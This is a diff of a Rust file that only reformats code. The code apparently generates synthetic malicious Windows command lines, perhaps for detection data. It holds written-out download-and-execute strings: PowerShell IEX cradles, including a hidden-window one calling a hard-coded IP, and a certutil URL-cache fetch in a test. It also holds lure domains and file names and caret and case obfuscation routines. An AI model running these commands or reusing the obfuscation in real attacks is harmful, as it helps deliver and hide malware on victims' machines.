@@ -21,14 +21,46 @@ pub struct FillCtx<'a> {
 }
 
 const WORDS: &[&str] = &[
-    "update", "invoice", "report", "setup", "config", "data", "helper", "sync", "backup",
-    "client", "agent", "service", "payroll", "q3_results", "scan", "patch", "driver", "notes",
-    "install", "temp", "cache", "log", "svc", "msupdate", "chrome_upd", "onedrive_sync",
+    "update",
+    "invoice",
+    "report",
+    "setup",
+    "config",
+    "data",
+    "helper",
+    "sync",
+    "backup",
+    "client",
+    "agent",
+    "service",
+    "payroll",
+    "q3_results",
+    "scan",
+    "patch",
+    "driver",
+    "notes",
+    "install",
+    "temp",
+    "cache",
+    "log",
+    "svc",
+    "msupdate",
+    "chrome_upd",
+    "onedrive_sync",
 ];
 const DOMAINS: &[&str] = &[
-    "cdn-updates.net", "files.azureedge-cdn.com", "raw.githubusercontent.com", "pastebin.com",
-    "transfer.sh", "storage.googleapis.com", "sharepoint-docs.online", "ms-office365.cloud",
-    "185.220.101.47", "45.137.21.9", "update.windows-cdn.org", "dl.dropboxusercontent.com",
+    "cdn-updates.net",
+    "files.azureedge-cdn.com",
+    "raw.githubusercontent.com",
+    "pastebin.com",
+    "transfer.sh",
+    "storage.googleapis.com",
+    "sharepoint-docs.online",
+    "ms-office365.cloud",
+    "185.220.101.47",
+    "45.137.21.9",
+    "update.windows-cdn.org",
+    "dl.dropboxusercontent.com",
 ];
 const PS_SNIPPETS: &[&str] = &[
     "IEX (New-Object Net.WebClient).DownloadString('http://{REMOTEURL}')",
@@ -75,22 +107,50 @@ fn is_placeholder(inner: &str) -> bool {
     !kind.is_empty()
         && kind.len() <= 16
         && kind.as_bytes()[0].is_ascii_uppercase()
-        && kind.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
+        && kind
+            .bytes()
+            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
 }
 
-fn value(out: &mut String, kind: &str, ext: &str, rng: &mut ChaCha8Rng, cx: &FillCtx<'_>, depth: u8) {
+fn value(
+    out: &mut String,
+    kind: &str,
+    ext: &str,
+    rng: &mut ChaCha8Rng,
+    cx: &FillCtx<'_>,
+    depth: u8,
+) {
     let ext = if ext == "folder" { "" } else { ext };
-    let ext = ext.rsplit('.').next().map(|e| if e.is_empty() { "" } else { e }).unwrap_or("");
+    let ext = ext
+        .rsplit('.')
+        .next()
+        .map(|e| if e.is_empty() { "" } else { e })
+        .unwrap_or("");
     let dot = if ext.is_empty() { "" } else { "." };
     match kind {
         "REMOTEURL" => {
             let d = DOMAINS[rng.random_range(0..DOMAINS.len())];
-            let scheme = if rng.random_bool(0.7) { "https" } else { "http" };
+            let scheme = if rng.random_bool(0.7) {
+                "https"
+            } else {
+                "http"
+            };
             let e = if ext.is_empty() { "bin" } else { ext };
-            let _ = write!(out, "{scheme}://{d}/{}/{}{}.{e}", word(rng), word(rng), rng.random_range(1..99));
+            let _ = write!(
+                out,
+                "{scheme}://{d}/{}/{}{}.{e}",
+                word(rng),
+                word(rng),
+                rng.random_range(1..99)
+            );
         }
         "PATH" | "PATH_ABSOLUTE" if cx.user.contains(' ') || cx.user == "SYSTEM" => {
-            let dir = [r"C:\Windows\Temp", r"C:\ProgramData", r"C:\Users\Public", r"C:\Windows\Tasks"][rng.random_range(0..4)];
+            let dir = [
+                r"C:\Windows\Temp",
+                r"C:\ProgramData",
+                r"C:\Users\Public",
+                r"C:\Windows\Tasks",
+            ][rng.random_range(0..4)];
             let _ = write!(out, r"{dir}\{}{dot}{ext}", word(rng));
         }
         "PATH" | "PATH_ABSOLUTE" => {
@@ -105,7 +165,13 @@ fn value(out: &mut String, kind: &str, ext: &str, rng: &mut ChaCha8Rng, cx: &Fil
             let _ = write!(out, r"{dir}\{}{dot}{ext}", word(rng));
         }
         "PATH_SMB" => {
-            let _ = write!(out, r"\\{}\{}$\{}{dot}{ext}", cx.peer, if rng.random_bool(0.5) { "C" } else { "ADMIN" }, word(rng));
+            let _ = write!(
+                out,
+                r"\\{}\{}$\{}{dot}{ext}",
+                cx.peer,
+                if rng.random_bool(0.5) { "C" } else { "ADMIN" },
+                word(rng)
+            );
         }
         "TEMP" if cx.user.contains(' ') || cx.user == "SYSTEM" => out.push_str(r"C:\Windows\Temp"),
         "TEMP" => {
@@ -115,7 +181,10 @@ fn value(out: &mut String, kind: &str, ext: &str, rng: &mut ChaCha8Rng, cx: &Fil
             let c = match rng.random_range(0..4) {
                 0 => "cmd.exe /c whoami /all".to_owned(),
                 1 => format!(r"C:\Users\{}\AppData\Local\Temp\{}.exe", cx.user, word(rng)),
-                2 => "powershell -nop -w hidden -ep bypass -c \"IEX (iwr http://185.220.101.47/a)\"".to_owned(),
+                2 => {
+                    "powershell -nop -w hidden -ep bypass -c \"IEX (iwr http://185.220.101.47/a)\""
+                        .to_owned()
+                }
                 _ => format!(r"C:\ProgramData\{}.exe", word(rng)),
             };
             out.push_str(&c);
@@ -124,13 +193,24 @@ fn value(out: &mut String, kind: &str, ext: &str, rng: &mut ChaCha8Rng, cx: &Fil
             let _ = write!(out, "{}", rng.random_range(100..9000) * 4);
         }
         "IP" => {
-            let _ = write!(out, "{}.{}.{}.{}", rng.random_range(11..223), rng.random_range(0..255), rng.random_range(0..255), rng.random_range(1..254));
+            let _ = write!(
+                out,
+                "{}.{}.{}.{}",
+                rng.random_range(11..223),
+                rng.random_range(0..255),
+                rng.random_range(0..255),
+                rng.random_range(1..254)
+            );
         }
         "HOST" => out.push_str(cx.peer),
         "SERVER" => out.push_str(cx.peer),
         "DC" => out.push_str(cx.dc),
         "USER" => out.push_str(cx.user),
-        "DOMAIN" => out.push_str(if rng.random_bool(0.5) { DOMAIN } else { DNS_DOMAIN }),
+        "DOMAIN" => out.push_str(if rng.random_bool(0.5) {
+            DOMAIN
+        } else {
+            DNS_DOMAIN
+        }),
         "GUID" => {
             let h: u128 = rng.random();
             out.push_str(&super::world::uuid_from(h).to_ascii_uppercase());
@@ -142,7 +222,11 @@ fn value(out: &mut String, kind: &str, ext: &str, rng: &mut ChaCha8Rng, cx: &Fil
             let _ = write!(out, "{}", rng.random_range(1..60));
         }
         "PORT" => {
-            let _ = write!(out, "{}", [443, 8080, 8443, 4444, 80, 53][rng.random_range(0..6)]);
+            let _ = write!(
+                out,
+                "{}",
+                [443, 8080, 8443, 4444, 80, 53][rng.random_range(0..6)]
+            );
         }
         "B64" => {
             if depth > 0 {
@@ -180,12 +264,24 @@ pub fn base64_utf16le(out: &mut String, s: &str) {
     const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
     let bytes: Vec<u8> = s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
     for chunk in bytes.chunks(3) {
-        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
+        let b = [
+            chunk[0],
+            *chunk.get(1).unwrap_or(&0),
+            *chunk.get(2).unwrap_or(&0),
+        ];
         let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
         out.push(T[(n >> 18) as usize & 63] as char);
         out.push(T[(n >> 12) as usize & 63] as char);
-        out.push(if chunk.len() > 1 { T[(n >> 6) as usize & 63] as char } else { '=' });
-        out.push(if chunk.len() > 2 { T[n as usize & 63] as char } else { '=' });
+        out.push(if chunk.len() > 1 {
+            T[(n >> 6) as usize & 63] as char
+        } else {
+            '='
+        });
+        out.push(if chunk.len() > 2 {
+            T[n as usize & 63] as char
+        } else {
+            '='
+        });
     }
 }
 
@@ -212,7 +308,10 @@ pub fn obfuscate(cmd: &str, style: Obfuscation, rng: &mut ChaCha8Rng) -> String 
                 (r"C:\Windows\System32\", r"%SystemRoot%\System32\"),
                 (r"C:\Windows\system32\", r"%windir%\system32\"),
                 ("cmd.exe", "%COMSPEC%"),
-                ("powershell", r"%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell"),
+                (
+                    "powershell",
+                    r"%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell",
+                ),
             ];
             match SUBS.iter().find(|(from, _)| cmd.contains(from)) {
                 Some((from, to)) => cmd.replacen(from, to, 1),
@@ -223,7 +322,11 @@ pub fn obfuscate(cmd: &str, style: Obfuscation, rng: &mut ChaCha8Rng) -> String 
             .chars()
             .map(|c| {
                 if c.is_ascii_alphabetic() && rng.random_bool(0.4) {
-                    if c.is_ascii_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() }
+                    if c.is_ascii_lowercase() {
+                        c.to_ascii_uppercase()
+                    } else {
+                        c.to_ascii_lowercase()
+                    }
                 } else {
                     c
                 }
@@ -243,7 +346,12 @@ pub fn obfuscate(cmd: &str, style: Obfuscation, rng: &mut ChaCha8Rng) -> String 
                 } else {
                     word_len = 0;
                 }
-                if !in_q && c.is_ascii_alphabetic() && word_len > 1 && word_len < 12 && rng.random_bool(0.25) {
+                if !in_q
+                    && c.is_ascii_alphabetic()
+                    && word_len > 1
+                    && word_len < 12
+                    && rng.random_bool(0.25)
+                {
                     match style {
                         Obfuscation::Carets => out.push('^'),
                         _ => {
@@ -264,13 +372,22 @@ mod tests {
     use rand::SeedableRng;
 
     fn cx() -> FillCtx<'static> {
-        FillCtx { user: "mary.lee", host: "WKS-1", peer: "SRV-APP01", dc: "DC01" }
+        FillCtx {
+            user: "mary.lee",
+            host: "WKS-1",
+            peer: "SRV-APP01",
+            dc: "DC01",
+        }
     }
 
     #[test]
     fn placeholders_are_all_replaced_and_other_braces_kept() {
         let mut rng = ChaCha8Rng::seed_from_u64(3);
-        let s = fill("certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe} & ps {$_} {GUID} -enc {B64}", &mut rng, &cx());
+        let s = fill(
+            "certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe} & ps {$_} {GUID} -enc {B64}",
+            &mut rng,
+            &cx(),
+        );
         assert!(!s.contains("{B64}"), "{s}");
         assert!(!s.contains("{REMOTEURL"), "{s}");
         assert!(!s.contains("{PATH"), "{s}");
